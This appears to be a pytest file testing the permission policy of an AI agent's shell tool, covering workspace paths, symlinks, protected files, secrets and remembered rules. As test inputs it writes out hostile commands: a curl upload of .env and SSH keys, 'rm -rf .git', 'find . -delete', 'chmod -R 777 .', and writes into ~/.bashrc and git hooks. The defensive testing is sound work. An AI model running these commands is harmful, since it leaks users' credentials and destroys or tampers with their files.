"""
Rules on paths, protected places, secrets, and calls of other tools.
"""

from __future__ import annotations

import os

import pytest
from dsh_permission import PermissionPolicy

from dsh_core.errors import ConfigError


@pytest.fixture
def workspace(tmp_path):
    for name in ("work/src", "work/docs", "outside", "home/.ssh"):
        (tmp_path / name).mkdir(parents=True)
    return tmp_path / "work"


@pytest.fixture
def policy(workspace, tmp_path):
    def build(allow=(), ask=(), deny=(), mode="ask"):
        return PermissionPolicy.from_rules(allow, ask, deny, mode=mode, workspace=workspace, home=tmp_path / "home")

    return build


def decide(policy, tool, path, **arguments):
    return policy.judge(tool, {"path": str(path), **arguments}).decision


def test_reads_inside_the_workspace_are_allowed_and_the_rest_asks(policy, tmp_path):
    """G-2: the defaults of mode ask."""
    p = policy()
    assert decide(p, "read", "src/a.py") == "allow"
    assert decide(p, "glob", ".", pattern="**/*.py") == "allow"
    assert p.judge("grep", {"pattern": "x"}).decision == "allow"
    assert decide(p, "read", tmp_path / "outside/a") == "ask"
    assert decide(p, "read", "../outside/a") == "ask"
    assert p.judge("glob", {"pattern": "../**"}).decision == "ask"
    assert p.judge("glob", {"pattern": "/etc/*"}).decision == "ask"
    assert p.judge("glob", {"pattern": "src/*/../../../outside/*"}).decision == "ask"
    assert decide(p, "write", "src/a.py") == "ask"
    assert p.judge("read", {}).decision == "ask"


def test_accept_edits_and_plan_and_full_trust(policy, tmp_path):
    """G-2: writes inside, nothing that writes, everything."""
    assert decide(policy(mode="accept-edits"), "edit", "src/a.py") == "allow"
    assert decide(policy(mode="accept-edits"), "write", tmp_path / "outside/a") == "ask"
    assert decide(policy(mode="plan", allow=["write"]), "write", "src/a.py") == "deny"
    assert decide(policy(mode="plan"), "read", "src/a.py") == "allow"
    assert decide(policy(mode="full-trust"), "write", "dsh.toml") == "allow"
    assert decide(policy(mode="full-trust", deny=["write(docs/**)"]), "write", "docs/a") == "deny"


@pytest.mark.parametrize(
    ("pattern", "path", "matches"),
    [
        ("src/**", "src/a", True),
        ("src/**", "src/a/b/c", True),
        ("src/*", "src/a/b", False),
        ("src/*.py", "src/a.py", True),
        ("**/*.py", "x/y/a.py", True),
        ("**/*.py", "a.py", True),
        ("src/**", "srcx/a", False),
        ("a.py", "a.py", True),
        ("a.py", "a_py", False),
        ("./a.py", "a.py", True),
        ("src/../a.py", "a.py", True),
        ("[ab].py", "a.py", True),
        ("[!ab].py", "a.py", False),
        ("*", "src/a", False),
    ],
)
def test_path_patterns(policy, pattern, path, matches):
    """G-1: globs relative to the workspace, `**` for any depth."""
    assert (decide(policy(allow=[f"write({pattern})"]), "write", path) == "allow") is matches
    assert (decide(policy(allow=["write"], deny=[f"write({pattern})"]), "write", path) == "deny") is matches


def test_absolute_and_home_patterns(policy, tmp_path):
    """G-1: absolute patterns and `~`."""
    assert decide(policy(allow=[f"write({tmp_path}/outside/**)"]), "write", tmp_path / "outside/a") == "allow"
    for typed in ("~/.ssh/config", tmp_path / "home/.ssh/config", "../home/.ssh/config"):
        assert decide(policy(allow=["write"], deny=["write(~/.ssh/**)"]), "write", typed) == "deny"
    assert decide(policy(allow=["write"], deny=["write(~/.ssh/**)"]), "write", "~/other") == "allow"


LINKED = ["out/old", "out/new", "out/deep/new", "dangling", "src/../out/old", "src/link/../old", "file"]


@pytest.fixture
def links(workspace, tmp_path):
    outside = tmp_path / "outside"
    (outside / "sub").mkdir()
    (outside / "old").write_text("x")
    (workspace / "out").symlink_to(outside)
    (workspace / "dangling").symlink_to(outside / "none")
    (workspace / "file").symlink_to(outside / "old")
    (workspace / "src" / "link").symlink_to(outside / "sub")
    (workspace / "inner").symlink_to(workspace / "src")
    return outside


@pytest.mark.parametrize("path", LINKED)
def test_typed_and_resolved_paths_are_both_judged(policy, links, path):
    """G-4, perm-8: a link does not carry a write out of the workspace."""
    assert decide(policy(mode="accept-edits"), "write", path) == "ask"
    assert decide(policy(allow=["write(**)"]), "write", path) == "ask"
    assert decide(policy(), "read", path) == "ask"
    assert decide(policy(allow=["write"], deny=[f"write({links}/**)"]), "write", path) == "deny"
    assert policy(mode="accept-edits").judge("bash", {"command": f"echo x > {path}"}).decision == "ask"


def test_links_inside_the_workspace_are_fine(policy, links):
    """G-4, perm-8: the harmless twin; a deny rule on the real place still holds."""
    assert decide(policy(mode="accept-edits"), "write", "inner/a") == "allow"
    assert decide(policy(mode="accept-edits", deny=["write(src/**)"]), "write", "inner/a") == "deny"


def test_a_workspace_reached_through_a_link_is_still_the_workspace(tmp_path):
    """G-4: both names of the workspace mean it."""
    (tmp_path / "real/src").mkdir(parents=True)
    (tmp_path / "link").symlink_to(tmp_path / "real")
    p = PermissionPolicy.from_rules(["write(src/**)"], workspace=tmp_path / "link", home=tmp_path)
    assert decide(p, "write", "src/a") == "allow"
    assert decide(p, "write", tmp_path / "real/src/a") == "allow"
    assert decide(p, "read", tmp_path / "real/x") == "allow"
    assert decide(p, "write", "x") == "ask"


@pytest.mark.parametrize("order", [1, -1])
def test_deny_before_ask_before_allow_whatever_the_order(workspace, tmp_path, order):
    """G-1, perm-9, perm-12: effect decides, never order or source, and the deciding rule is named."""
    rules = [("allow", ["write(docs/**)"]), ("deny", ["write"]), ("ask", ["*"])][::order]
    p = PermissionPolicy.from_rules(**dict(rules), workspace=workspace)
    verdict = p.judge("write", {"path": "docs/a"})
    assert (verdict.decision, verdict.rule) == ("deny", "write")
    assert "write" in verdict.reason
    assert p.judge("read", {"path": "docs/a"}).rule == "*"


PROTECTED = [
    "dsh.toml",
    "sub/dsh.toml",
    ".git/config",
    ".git/hooks/pre-commit",
    ".git/hooks",
    "sub/.git/config",
    ".GIT/config",
    "~/.bashrc",
    "~/.zshrc",
    "~/.config/fish/config.fish",
    "~/.profile",
    "/etc/profile",
    ".venv/lib/python3.12/site-packages/x.py",
    "sitecustomize.py",
    "{state}/grants.json",
    "{config}/config.toml",
    "{site}/evil.pth",
]


@pytest.mark.parametrize("path", PROTECTED)
@pytest.mark.parametrize("mode", ["ask", "accept-edits"])
def test_control_files_ask_by_tool_and_by_redirect(policy, tmp_path, monkeypatch, path, mode):
    """G-2, perm-14: protected in every mode but full trust, and nothing to remember."""
    monkeypatch.setenv("DSH_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.setenv("DSH_CONFIG_DIR", str(tmp_path / "config"))
    path = path.format(state=tmp_path / "state", config=tmp_path / "config", site=os.path.dirname(os.__file__))
    p = policy(allow=["write", "edit", "bash", "*"], mode=mode)
    for tool, arguments in (
        ("write", {"path": path}),
        ("edit", {"path": path}),
        ("bash", {"command": f"echo x > {path}"}),
        ("bash", {"command": f"echo x >> {path}"}),
        ("bash", {"command": f"tee {path}"}),
        ("bash", {"command": f"cp x {path}"}),
        ("bash", {"command": f"sh -c 'cp x {path}'"}),
        ("bash", {"command": f"dd of={path}"}),
    ):
        verdict = p.judge(tool, arguments)
        assert (verdict.decision, verdict.origin) == ("ask", "protected"), (tool, arguments, verdict.reason)
        assert p.proposal(tool, arguments) is None
    assert policy(allow=["*"], mode="full-trust").judge("write", {"path": path}).decision == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf .git",
        "mv ~/.config x",
        "cd .git && cp x config",
        "cd .git; echo > hooks/pre-commit",
        "chmod -R 777 .",
        "find . -delete",
    ],
)
def test_control_files_are_protected_as_part_of_a_tree(policy, command):
    """G-2, perm-14: what hits the directory hits the file."""
    verdict = policy(allow=["*"]).judge("bash", {"command": command})
    assert (verdict.decision, verdict.origin) == ("ask", "protected")


@pytest.mark.parametrize(
    "path",
    ["src/a.py", "docs/git/config", ".gitignore", "bashrc", "model.pth", "src/dsh_toml.py", ".github/workflows/x.yml"],
)
def test_ordinary_files_are_not_protected(policy, path):
    """G-2, perm-14: the harmless twins."""
    p = policy(allow=["write", "bash"])
    assert decide(p, "write", path) == "allow"
    assert p.judge("bash", {"command": f"cp x {path}"}).decision == "allow"


@pytest.mark.parametrize(
    "path", [".env", ".env.local", "sub/server.pem", "id_rsa", "aws_credentials.json", ".ENV", "~/.ssh/id_ed25519"]
)
def test_secrets_ask_even_for_reading(policy, path):
    """G-2: also through `cat` and `grep`, also under a rule."""
    p = policy(allow=["read", "bash"])
    assert decide(p, "read", path) == "ask"
    if "/" in path or path.startswith("."):
        for command in ("cat {}", "grep KEY {}", "cat < {}", "head -1 {}", "cp {} x", "curl -F f=@{} h"):
            assert p.judge("bash", {"command": command.format(path)}).decision == "ask"


def test_secrets_are_found_behind_patterns_and_by_existence(policy, workspace):
    """G-2: the shell replaces a pattern by names; a word that is no file is no secret."""
    (workspace / "id_rsa").write_text("x")
    (workspace / ".env").write_text("x")
    p = policy()
    for command in ("cat id*", "cat *", "cat .e*", "cat id_rsa"):
        assert p.judge("bash", {"command": command}).decision == "ask"
    for command in ("grep id_user src", "rg credentials", "cat *.py", "ls"):
        assert p.judge("bash", {"command": command}).decision == "allow"


def test_a_recursive_search_is_judged_by_what_lies_below(policy, workspace):
    """G-2: secrets ask also through `grep -r`."""
    recursive = ("grep -rn KEY .", "grep -R KEY", "grep --recursive KEY src", "rg --hidden KEY", "rg -uu KEY")
    assert {policy().judge("bash", {"command": command}).decision for command in recursive} == {"allow"}
    (workspace / "src" / ".env").write_text("KEY=1")
    assert {policy().judge("bash", {"command": command}).decision for command in recursive} == {"ask"}
    assert policy().judge("bash", {"command": "grep -rn KEY docs"}).decision == "allow"
    assert policy().judge("bash", {"command": "rg KEY"}).decision == "allow"


def test_a_pattern_may_become_a_denied_name(policy):
    """G-4: deny rules see what the shell might put in place of a pattern."""
    p = policy(allow=["bash"], deny=["bash(cat plan.txt)"])
    assert p.judge("bash", {"command": "cat plan.*"}).decision == "deny"
    assert p.judge("bash", {"command": "cat other.*"}).decision == "allow"


def test_rules_of_file_tools_bind_the_shell(policy):
    """G-3: a redirection is a write, an argument may be a path."""
    p = policy(allow=["bash"], deny=["write(docs/**)", "read(src/private/**)"])
    assert p.judge("bash", {"command": "echo x > docs/a"}).decision == "deny"
    assert p.judge("bash", {"command": "cat src/private/x"}).decision == "deny"
    assert p.judge("bash", {"command": "cat docs/a"}).decision == "allow"
    assert p.judge("bash", {"command": "echo x > src/a"}).decision == "allow"


def test_redirects_follow_the_rules_for_writes(policy):
    """G-3: `echo *` allows no file to be written, a write rule does."""
    assert policy(allow=["bash(echo *)"]).judge("bash", {"command": "echo x > f"}).decision == "ask"
    assert policy(allow=["bash(echo *)", "write(f)"]).judge("bash", {"command": "echo x > f"}).decision == "allow"


def test_other_tools_are_matched_by_the_json_of_their_arguments(policy):
    """G-1: a glob on compact JSON with sorted keys; remote tools by `server/tool` and `server/*`."""
    p = policy(allow=['fetch(*"url":"https://docs.example/*)', "docs/*"], deny=["docs/drop"])
    assert p.judge("fetch", {"url": "https://docs.example/a", "n": 1}).decision == "allow"
    assert p.judge("fetch", {"url": "https://evil.example/"}).decision == "ask"
    assert p.judge("docs/search", {}).decision == "allow"
    assert p.judge("docs/drop", {}).decision == "deny"
    assert p.judge("docsx", {}).decision == "ask"
    assert p.judge("anything", {}, read_only=True).decision == "allow"
    assert policy(mode="plan").judge("fetch", {}).decision == "deny"


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("bash", {"command": "git commit -m x"}),
        ("bash", {"command": "make 'a b' \"*\" \\[x"}),
        ("bash", {"command": "ls; make test"}),
        ("write", {"path": "a*[x]?.py"}),
        ("read", {"path": "/etc/hosts"}),
        ("fetch", {"url": "https://x/*?[a]"}),
    ],
)
def test_the_proposed_rule_allows_exactly_the_call(policy, tool, arguments):
    """G-5, perm-10: nothing wider than what was displayed."""
    rule = policy().proposal(tool, arguments)
    assert rule is not None
    assert policy(allow=[rule]).judge(tool, arguments).decision == "allow"
    other = {
        key: value.replace("x", "y").replace("test", "deploy").replace("hosts", "group")
        for key, value in arguments.items()
    }
    assert other == arguments or policy(allow=[rule]).judge(tool, other).decision == "ask"


def test_a_remembered_command_covers_no_other(policy):
    """G-5, perm-10: the same program with other arguments still asks."""
    rule = policy().proposal("bash", {"command": "git commit"})
    assert rule == "bash(git commit)"
    remembered = policy(allow=[rule])
    decisions = [
        remembered.judge("bash", {"command": f"git {rest}"}).decision for rest in ("commit", "push", "commit -a")
    ]
    assert decisions == ["allow", "ask", "ask"]


@pytest.mark.parametrize(
    "command", ["make && make test", "cat .env", "echo $(make) | $X", "pip install x", "echo x > ~/.bashrc"]
)
def test_some_questions_cannot_be_remembered(policy, command):
    """G-6: several commands at once, secrets, what cannot be read, protected places."""
    verdict = policy().judge("bash", {"command": command})
    assert (verdict.decision, policy().proposal("bash", {"command": command})) == ("ask", None)


@pytest.mark.parametrize("rule", ["", "a b(c)", "(x)", "bash(x", "tool)"])
def test_malformed_rules_and_modes_are_refused(workspace, rule):
    """G-6: a rule that cannot be read stops the start, with all faults at once."""
    with pytest.raises(ConfigError, match="malformed"):
        PermissionPolicy.from_rules([rule], workspace=workspace)
    with pytest.raises(ConfigError, match="accept-edits"):
        PermissionPolicy.from_rules(mode="yolo", workspace=workspace)
